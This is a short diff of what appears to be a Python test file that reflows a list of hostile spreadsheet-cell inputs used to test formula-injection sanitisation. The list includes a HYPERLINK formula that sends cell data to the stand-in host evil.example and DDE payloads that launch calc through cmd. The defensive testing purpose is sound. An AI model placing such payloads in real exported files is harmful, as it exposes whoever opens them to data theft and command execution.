@@ -13,7 +13,8 @@ from negotiations.api.cells import cell, raw
 
 HOSTILE = [
     "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\t", "＝1+1", "＋1",
-    "－1", "＠SUM(1)",    " =1", "\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b=1", "\u202e=1", "'=1", "''@", "\x01=1",
+    "－1", "＠SUM(1)", " =1", "\u00a0=1", "\u3000=1", "\ufeff=1",
+    "\u200b=1", "\u202e=1", "'=1", "''@", "\x01=1",
     "=HYPERLINK(\"https://evil.example/?\"&A1,\"조현\")", "=cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "- said the minister", "+82 2 2100 2114", "-0500-01-01",
